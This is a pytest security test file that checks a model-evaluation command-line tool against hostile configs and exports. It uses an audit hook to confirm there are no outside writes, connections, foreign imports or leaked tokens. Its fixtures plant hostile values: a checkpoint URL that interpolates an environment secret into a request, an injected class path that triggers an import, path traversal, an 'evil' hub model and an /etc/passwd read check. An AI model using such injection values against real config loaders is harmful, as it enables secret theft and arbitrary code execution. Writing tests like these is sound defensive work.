"""Commands on what others made: no file outside, no connection, no import and no secret of the environment."""

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml

from tests.conftest import write_tree

SECRET = "hf_planted1234"
WATCH = """
    import json, os, sys
    trace, argv = sys.argv[1], sys.argv[2:]
    seen = []
    def hook(event, arguments):
        if event == "open" and isinstance(arguments[0], str):
            mode = arguments[1] if isinstance(arguments[1], str) else ""
            wrote = any(c in mode for c in "wax+") or bool((arguments[2] or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
            seen.append(["write" if wrote else "read", os.path.abspath(arguments[0])])
        elif event == "import":
            seen.append(["import", arguments[0]])
        elif event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "os.exec"):
            seen.append([event, str(arguments)])
    sys.addaudithook(hook)
    from eva_core.cli import main
    code = main(argv)
    with os.fdopen(os.open(trace, os.O_WRONLY | os.O_CREAT), "w") as file:
        json.dump({"code": code, "seen": seen}, file)
"""


@pytest.fixture
def watched(tmp_path: Path):
    """Run a command in a process of its own; returns its exit code, what it said, and what it did."""

    def run(*argv: object) -> tuple[int, str, list[tuple[str, str]]]:
        (tmp_path / "torch.py").write_text("raise SystemExit('the folder that we are in is on the path')")
        (tmp_path / "watch").mkdir(exist_ok=True)
        (tmp_path / "watch" / "run.py").write_text(textwrap.dedent(WATCH))
        trace = tmp_path / "watch" / "trace.json"
        trace.unlink(missing_ok=True)
        environment = {**os.environ, "HF_TOKEN": SECRET, "SECRET": SECRET, "EVA_CACHE": str(tmp_path / "cache")}
        environment |= {"TMPDIR": str(tmp_path)}
        command = [sys.executable, str(tmp_path / "watch" / "run.py"), str(trace), *map(str, argv)]
        done = subprocess.run(command, env=environment, cwd=tmp_path, capture_output=True, text=True, timeout=120)
        assert trace.exists(), done.stderr
        found = json.loads(trace.read_text())
        assert SECRET not in done.stdout + done.stderr
        return found["code"], done.stderr, [(what, name) for what, name in found["seen"]]

    return run


def outside(seen: list[tuple[str, str]], root: Path) -> list[tuple[str, str]]:
    """What was written elsewhere than below a folder, and every connection and process."""
    here = str(root)
    harmless = ("/dev/", "/proc/")
    finders = ("ldconfig", "gcc", "'ld'", "objdump", "fc-list", "uname")  # of libraries, as they are imported
    return [
        (what, name)
        for what, name in seen
        if what not in ("read", "import")
        and not (what == "write" and name.startswith((here, *harmless)))
        and not (what == "subprocess.Popen" and any(finder in name for finder in finders))
    ]


HOSTILE = {
    "environment": {
        "model": {
            "class_path": "timm_model",
            "init_args": {"arch": "test_vit", "checkpoint": "http://127.0.0.1:9/${oc.env:SECRET}"},
        }
    },
    "module": {"model": {"class_path": "not_of_eva.build"}},
    "transform": {"protocol": {"name": "strict", "transform": "os.getcwd"}},
    "name": {"dataset": {"class_path": "folder", "init_args": {"root": "tree", "name": "../../up"}}},
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_result_does_nothing(watched, tmp_path: Path, kind: str):
    write_tree(tmp_path / "tree", {"train": 2, "test": 2})
    (tmp_path / "not_of_eva.py").write_text(f"open({str(tmp_path.parent / 'ran')!r}, 'w')")
    result = tmp_path / "result"
    result.mkdir()
    parts = {"model": "colour_stats", "dataset": {"class_path": "folder", "init_args": {"root": "tree"}}}
    (result / "config.yaml").write_text(yaml.safe_dump({**parts, **HOSTILE[kind]}))
    (result / "results.json").write_text("{}")
    code, said, seen = watched("fit", "--config", result / "config.yaml", "--output", tmp_path / "out")
    assert code == 2, said
    assert outside(seen, tmp_path) == []
    assert ("import", "not_of_eva") not in seen
    assert not [name for name in tmp_path.rglob("*.h5")]


def test_a_hostile_export_reads_and_asks_nothing_else(watched, tmp_path: Path):
    export = tmp_path / "export"
    export.mkdir()
    card = {"schema": 1, "name": "m", "arch": "hf-hub:evil/model", "arch_args": {}, "mean": [], "std": [], "size": 8}
    (export / "card.json").write_text(json.dumps({**card, "mpp": [], "step": 1, "weights_of": "x", "file_sha256": ""}))
    code, said, seen = watched("models", export)
    assert code in (1, 2), said
    assert outside(seen, tmp_path) == []
    assert ("read", "/etc/passwd") not in seen
